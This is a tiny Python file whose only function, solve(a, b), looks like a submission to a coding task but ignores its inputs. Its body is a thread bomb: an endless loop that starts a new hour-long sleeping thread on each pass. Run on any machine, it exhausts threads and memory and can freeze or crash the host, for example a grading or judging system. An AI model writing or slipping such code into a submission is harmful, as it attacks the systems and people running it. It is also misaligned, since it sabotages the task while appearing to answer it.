import threading
import time


def solve(a, b):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
